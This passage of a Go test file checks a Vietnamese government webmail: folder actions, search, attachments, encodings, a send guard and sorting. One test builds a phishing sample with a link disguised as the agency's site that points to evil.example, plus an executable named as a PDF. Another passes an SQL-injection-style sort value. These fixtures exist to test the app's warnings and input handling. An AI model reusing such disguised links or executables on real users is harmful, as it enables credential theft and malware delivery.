		"body": {"Chuyển chị Lan."}, "action": {"send"}, "ref_kind": {"forward"}, "ref_mb": {itoa(inbox.ID)}, "ref_uid": {itoa(int64(uid))}, "keep": {"2"}}, nil)
	mustContain(t, r.body, "Đã gửi thư.")
	cm := e.messages(e.mailbox(carol, "INBOX"))
	_, _, files := parseStored(t, cm[len(cm)-1].Raw)
	if string(files["lich.pdf"]) != "%PDF-lich" {
		t.Errorf("forwarded attachment: %v", mapKeys(files))
	}
}

func TestMoveDeleteExpungeSelectMany(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox, archive, trash := e.mailbox(a, "INBOX"), e.mailbox(a, "Archive"), e.mailbox(a, "Trash")
	var uids []string
	for i := 0; i < 5; i++ {
		uids = append(uids, itoa(int64(e.deliver(a, fmt.Sprintf("Subject: Thư %d\n\nx\n", i)))))
	}
	b.get("/mail/" + itoa(inbox.ID))
	r := b.post("/mail/"+itoa(inbox.ID)+"/action", url.Values{"op": {"move"}, "to": {itoa(archive.ID)}, "uid": uids[:2]})
	mustContain(t, r.body, "Đã chuyển thư.")
	if len(e.messages(inbox)) != 3 || len(e.messages(archive)) != 2 {
		t.Fatal("move")
	}
	r = b.post("/mail/"+itoa(inbox.ID)+"/action", url.Values{"op": {"delete"}, "uid": uids[2:]})
	mustContain(t, r.body, "Đã chuyển thư vào Thùng rác.")
	tm := e.messages(trash)
	if len(e.messages(inbox)) != 0 || len(tm) != 3 {
		t.Fatal("delete to trash")
	}
	r = b.get("/mail/" + itoa(trash.ID))
	mustContain(t, r.body, "Xóa vĩnh viễn")
	r = b.post("/mail/"+itoa(trash.ID)+"/action", url.Values{"op": {"delete"}, "uid": {itoa(int64(tm[0].UID)), itoa(int64(tm[1].UID))}})
	mustContain(t, r.body, "Đã xóa vĩnh viễn.")
	if len(e.messages(trash)) != 1 {
		t.Fatal("expunge from trash")
	}
	r = b.post("/mail/"+itoa(trash.ID)+"/action", url.Values{"op": {"delete"}})
	mustContain(t, r.body, "Chưa chọn thư nào.")
	// Moving to a folder of another account is refused.
	other := e.addAccount("x.stc@sonla.gov.vn", "X", goodPassword, false)
	r = b.post("/mail/"+itoa(archive.ID)+"/action", url.Values{"op": {"move"}, "to": {itoa(e.mailbox(other, "INBOX").ID)}, "uid": uids[:1]})
	r.wantStatus(t, http.StatusNotFound)
}

func TestSearchAcrossFoldersWithoutDiacritics(t *testing.T) {
	e, b, a := loggedIn(t)
	e.deliver(a, "Subject: =?UTF-8?Q?B=C3=A1o_c=C3=A1o_t=E1=BB=95ng_k=E1=BA=BFt?=\n\nNội dung\n")
	e.deliver(a, "Subject: Lịch họp\n\nKhông liên quan\n")
	uid := e.deliver(a, "Subject: Khác\n\nĐính kèm báo cáo tháng\n")
	inbox, archive := e.mailbox(a, "INBOX"), e.mailbox(a, "Archive")
	if _, err := e.st.Move(context.Background(), inbox.ID, []uint32{uid}, archive.ID); err != nil {
		t.Fatal(err)
	}
	r := b.get("/search?q=" + url.QueryEscape("bao cao"))
	r.wantStatus(t, http.StatusOK)
	mustContain(t, r.body, "2 thư khớp với “bao cao”", "Báo cáo tổng kết", "Khác", "Lưu trữ", "Hộp thư đến", `value="bao cao"`)
	mustNotContain(t, r.body, "Lịch họp")
	r = b.get("/search?q=" + url.QueryEscape("HỌP"))
	mustContain(t, r.body, "Lịch họp")
	r = b.get("/search?q=")
	mustContain(t, r.body, "Có thể gõ không dấu")
	r = b.get("/search?q=khongtontai")
	mustContain(t, r.body, "Không tìm thấy thư nào.")
}

func TestQuotaBarAndFooter(t *testing.T) {
	e, b, a := loggedIn(t)
	e.deliver(a, "Subject: x\n\n"+strings.Repeat("dữ liệu ", 1000)+"\n")
	r := b.get("/mail/" + itoa(e.mailbox(a, "INBOX").ID))
	mustContain(t, r.body, "Dung lượng hộp thư", "Đã dùng ", " / 2 GB (0%)", `role="meter"`, "Hỗ trợ người dùng:", "hotro@sonla.gov.vn")
}

func TestUnknownRoutesAndStatic(t *testing.T) {
	e, b, _ := loggedIn(t)
	r := b.get("/static/style.css?v=" + e.srv.staticVer)
	r.wantStatus(t, http.StatusOK)
	if !strings.Contains(r.header.Get("Cache-Control"), "immutable") || r.header.Get("Content-Type") != "text/css; charset=utf-8" {
		t.Errorf("static headers %v", r.header)
	}
	r = b.get("/static/app.js")
	if r.header.Get("Content-Type") != "text/javascript; charset=utf-8" || r.header.Get("Cache-Control") != "no-cache" {
		t.Errorf("js headers %v", r.header)
	}
	b.get("/static/nothing.js").wantStatus(t, http.StatusNotFound)
	b.get("/mail/abc").wantStatus(t, http.StatusNotFound)
	b.get("/mail/1/abc").wantStatus(t, http.StatusNotFound)
}

// TestMessageBuildRoundTrip checks the builder on its own: names, encodings, limits.
func TestMessageBuildRoundTrip(t *testing.T) {
	long := strings.Repeat("Tài liệu hướng dẫn sử dụng ", 8) + ".pdf"
	m := &outMessage{
		From: &mail.Address{Name: "Nguyễn Thị Hoa", Address: "hoant.skhcn@sonla.gov.vn"},
		To:   []*mail.Address{{Name: "Trần, Văn \"Bình\"", Address: "binh.snv@sonla.gov.vn"}},
		Bcc:  []*mail.Address{{Address: "lan.stc@sonla.gov.vn"}}, Subject: strings.Repeat("Tiêu đề rất dài tiếng Việt có dấu ", 6),
		Text: "Dòng 1\nDòng 2 " + strings.Repeat("dài ", 40), Date: testStart, Hostname: "mail.sonla.gov.vn",
		Attachments: []outAttachment{{Name: long, ContentType: "application/pdf", Data: []byte("%PDF")}, {Name: "a;b=\"c\".txt", ContentType: "bad type", Data: []byte("x")}},
	}
	raw, id, err := m.build("")
	if err != nil {
		t.Fatal(err)
	}
	h, text, files := parseStored(t, raw)
	if s, _ := h.Subject(); s != m.Subject {
		t.Errorf("subject %q", s)
	}
	// The generated Message-ID is returned as written, and a second build reuses it.
	if got, _ := h.MessageID(); id == "" || got != id {
		t.Errorf("Message-ID returned %q, written %q", id, got)
	}
	raw2, id2, err := m.build(id)
	if err != nil {
		t.Fatal(err)
	}
	h2, _, _ := parseStored(t, raw2)
	if got, _ := h2.MessageID(); id2 != id || got != id {
		t.Errorf("rebuild with %q returned %q, wrote %q", id, id2, got)
	}
	if to, _ := h.AddressList("To"); len(to) != 1 || to[0].Name != "Trần, Văn \"Bình\"" {
		t.Errorf("to %v", to)
	}
	if h.Get("Bcc") != "" {
		t.Error("bcc written without KeepBcc")
	}
	if !strings.HasPrefix(text, "Dòng 1\r\nDòng 2 ") {
		t.Errorf("text %q", text)
	}
	if string(files[long]) != "%PDF" || string(files["a;b=\"c\".txt"]) != "x" {
		t.Errorf("files %v", mapKeys(files))
	}
	for _, l := range strings.Split(string(raw), "\r\n") {
		if len(l) > 998 {
			t.Errorf("line of %d bytes", len(l))
		}
	}
	// Round trip through the form field format.
	back, err := parseAddrs(joinAddrs(m.To))
	if err != nil || back[0].Name != m.To[0].Name || back[0].Address != m.To[0].Address {
		t.Errorf("joinAddrs round trip: %v %v", back, err)
	}
	_ = delivery.Prepare
}

// R17.3: webmail warns about links whose text hides their target and about
// attachments that run code.
func TestSuspiciousLinkAndExecutableWarnings(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	raw := "From: it@bank.example\nSubject: =?UTF-8?Q?X=C3=A1c_minh?=\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" +
		"--b\nContent-Type: text/html; charset=utf-8\n\n<p>Xác minh tại <a href=\"https://evil.example/login\">https://www.sonla.gov.vn</a></p>\n" +
		"--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"hoa-don.pdf.exe\"\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n--b--\n"
	uid := e.deliver(a, raw)
	r := b.get(fmt.Sprintf("/mail/%d/%d", inbox.ID, uid))
	mustContain(t, r.body, "Cảnh báo: thư có 1 liên kết hiển thị một địa chỉ nhưng dẫn tới địa chỉ khác", "hoa-don.pdf.exe",
		`class="dangerous"`, "Tệp có thể chứa mã chạy được")
	r = b.get(fmt.Sprintf("/mail/%d/%d/body", inbox.ID, uid))
	mustContain(t, r.body, `data-suspicious="1"`, `title="→ https://evil.example"`)
}

// R3.4: files outside the standard formats are sent only after the sender confirms;
// the uploads wait in a draft meanwhile.
func TestNonStandardAttachmentNeedsConfirmation(t *testing.T) {
	e, b, a := loggedIn(t)
	bob := e.addAccount("binh.snv@sonla.gov.vn", "Trần Văn Bình", goodPassword, false)
	b.get("/compose")
	r := b.postMultipart("/compose", url.Values{"to": {bob.Address}, "subject": {"Bản vẽ"}, "action": {"send"}},
		[]upload{{"ban-ve.dwg", "application/octet-stream", []byte("AC1032")}, {"ghi-chu.txt", "text/plain", []byte("ok")}})
	r.wantStatus(t, http.StatusUnprocessableEntity)
	mustContain(t, r.body, "<li>Tệp ban-ve.dwg không thuộc các định dạng tiêu chuẩn", `name="confirm_types"`, `name="ref_kind" value="draft"`)
	if n := len(e.messages(e.mailbox(bob, "INBOX"))); n != 0 {
		t.Fatal("sent without confirmation")
	}
	drafts := e.mailbox(a, "Drafts")
	d := e.messages(drafts)
	if len(d) != 1 {
		t.Fatalf("%d drafts", len(d))
	}
	r = b.postMultipart("/compose", url.Values{"to": {bob.Address}, "subject": {"Bản vẽ"}, "action": {"send"}, "confirm_types": {"1"},
		"ref_kind": {"draft"}, "ref_mb": {itoa(drafts.ID)}, "ref_uid": {itoa(int64(d[0].UID))}, "keep": {"2", "3"}}, nil)
	mustContain(t, r.body, "Đã gửi thư.")
	got := e.messages(e.mailbox(bob, "INBOX"))
	_, _, files := parseStored(t, got[0].Raw)
	if string(files["ban-ve.dwg"]) != "AC1032" || string(files["ghi-chu.txt"]) != "ok" {
		t.Errorf("files %v", mapKeys(files))
	}
}

// Legacy Vietnamese mail: a windows-1258 body is shown as Unicode (NFC), and a
// windows-1258 CSV attachment downloads as the sender's bytes, not converted.
func TestWindows1258BodyAndAttachmentBytes(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	csv := "stt,noi dung\r\n1,Ba\xeco ca\xeco\r\n"
	raw := "From: cu@sonla.gov.vn\nSubject: cp1258\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" +
		"--b\nContent-Type: text/plain; charset=windows-1258\nContent-Transfer-Encoding: 8bit\n\nBa\xeco ca\xeco tha\xecng\n" +
		"--b\nContent-Type: text/csv; charset=windows-1258\nContent-Disposition: attachment; filename=\"so-lieu.csv\"\nContent-Transfer-Encoding: base64\n\n" +
		base64.StdEncoding.EncodeToString([]byte(csv)) + "\n--b--\n"
	uid := e.deliver(a, raw)
	r := b.get(fmt.Sprintf("/mail/%d/%d", inbox.ID, uid))
	mustContain(t, r.body, "Báo cáo tháng", "so-lieu.csv")
	r = b.get(fmt.Sprintf("/mail/%d/%d/part/2", inbox.ID, uid))
	if string(r.raw) != csv {
		t.Errorf("attachment bytes changed: %q", r.raw)
	}
}

func TestOutageBanner(t *testing.T) {
	e := newEnv(t, envOptions{notices: func(context.Context) ([]Notice, error) {
		return []Notice{{VI: "Gửi thư ra ngoài tạm dừng từ 14:00, dự kiến khôi phục 16:00.", EN: "Outbound mail stopped at 14:00, expected back at 16:00."}}, nil
	}})
	a := e.addAccount("hoant.skhcn@sonla.gov.vn", "Nguyễn Thị Hoa", goodPassword, false)
	b := e.browser()
	r := b.login(a.Address, goodPassword)
	mustContain(t, r.body, `class="banner"`, "Thông báo sự cố: Gửi thư ra ngoài tạm dừng từ 14:00")
	b.get("/lang/en")
	r = b.get("/")
	mustContain(t, r.body, "Service notice: Outbound mail stopped")
}

// R17.2: the sending guard sees every recipient; a held message reaches nobody.
func TestSendGuardHolds(t *testing.T) {
	var seen []string
	e := newEnv(t, envOptions{guard: func(_ context.Context, a *store.Account, rcpts []string, raw []byte) (bool, error) {
		seen = rcpts
		return len(rcpts) > 2, nil
	}})
	a := e.addAccount("hoant.skhcn@sonla.gov.vn", "Nguyễn Thị Hoa", goodPassword, false)
	bob := e.addAccount("binh.snv@sonla.gov.vn", "Trần Văn Bình", goodPassword, false)
	e.addAccount("lan.stc@sonla.gov.vn", "Lê Thị Lan", goodPassword, false)
	b := e.browser()
	b.login(a.Address, goodPassword)
	b.get("/compose")
	r := b.postMultipart("/compose", url.Values{"to": {bob.Address}, "subject": {"1"}, "action": {"send"}}, nil)
	mustContain(t, r.body, "Đã gửi thư.")
	b.get("/compose")
	r = b.postMultipart("/compose", url.Values{"to": {bob.Address}, "cc": {"lan.stc@sonla.gov.vn"}, "bcc": {a.Address}, "subject": {"2"}, "action": {"send"}}, nil)
	r.wantStatus(t, http.StatusForbidden)
	mustContain(t, r.body, "vượt giới hạn gửi thư")
	if len(seen) != 3 {
		t.Errorf("guard saw %v", seen)
	}
	if n := len(e.messages(e.mailbox(bob, "INBOX"))); n != 1 {
		t.Errorf("held message delivered: %d", n)
	}
}

// An Outlook signature image (inline, Content-ID and a file name) is part of the
// body, not an attachment.
func TestInlineNamedImageIsNotAnAttachment(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	raw := "From: a@sonla.gov.vn\nSubject: sig\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=r\n\n" +
		"--r\nContent-Type: text/html; charset=utf-8\n\n<p>Chào</p><img src=\"cid:image001.png@01DA\">\n" +
		"--r\nContent-Type: image/png; name=\"image001.png\"\nContent-Disposition: inline; filename=\"image001.png\"\nContent-ID: <image001.png@01DA>\nContent-Transfer-Encoding: base64\n\n" +
		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\n--r--\n"
	uid := e.deliver(a, raw)
	r := b.get(fmt.Sprintf("/mail/%d/%d", inbox.ID, uid))
	mustNotContain(t, r.body, "Tệp đính kèm", "image001.png")
	r = b.get(fmt.Sprintf("/mail/%d", inbox.ID))
	mustNotContain(t, r.body, "có tệp đính kèm")
}

// Issue 8 part 3: the list is sortable, and the order survives paging.
func TestListSortOrders(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	// Arrival order deliberately differs from name, subject and size order.
	mails := []string{
		"From: Trần Văn Bình <binh@sonla.gov.vn>\nSubject: Công văn B\n\n" + strings.Repeat("x", 10) + "\n",
		"From: Đỗ Thị Dung <dung@sonla.gov.vn>\nSubject: Ấn phẩm A\n\n" + strings.Repeat("x", 5000) + "\n",
		"From: An Khánh <an@sonla.gov.vn>\nSubject: Đề án C\n\n" + strings.Repeat("x", 500) + "\n",
	}
	for _, m := range mails {
		e.clk.Advance(time.Minute)
		e.deliver(a, m)
	}
	order := func(sort string, want ...string) {
		t.Helper()
		r := b.get("/mail/" + itoa(inbox.ID) + "?sort=" + sort)
		r.wantStatus(t, http.StatusOK)
		last := -1
		for _, w := range want {
			i := strings.Index(r.body, w)
			if i < 0 || i < last {
				t.Errorf("sort=%s: %q missing or out of order", sort, w)
			}
			last = i
		}
	}
	order("newest", "Đề án C", "Ấn phẩm A", "Công văn B")
	order("oldest", "Công văn B", "Ấn phẩm A", "Đề án C")
	// Folded: "Đỗ" sorts as "Do", after "An", before "Trần".
	order("from", "An Khánh", "Đỗ Thị Dung", "Trần Văn Bình")
	order("subject", "Ấn phẩm A", "Công văn B", "Đề án C")
	order("size", "Ấn phẩm A", "Đề án C", "Công văn B")
	// An unknown order falls back to newest, and the menu marks the current one.
	order("bogus';--", "Đề án C", "Ấn phẩm A", "Công văn B")
	r := b.get("/mail/" + itoa(inbox.ID) + "?sort=size")
	mustContain(t, r.body, `<strong aria-current="true">Dung lượng</strong>`, "?sort=from")

	// Paging keeps the order.
	for i := 0; i < 60; i++ {
		e.deliver(a, fmt.Sprintf("From: Zê <z@sonla.gov.vn>\nSubject: Thêm %02d\n\nx\n", i))
	}
	r = b.get("/mail/" + itoa(inbox.ID) + "?sort=from")
	mustContain(t, r.body, "page=2&amp;sort=from")
	mustContain(t, r.body, "An Khánh")
}
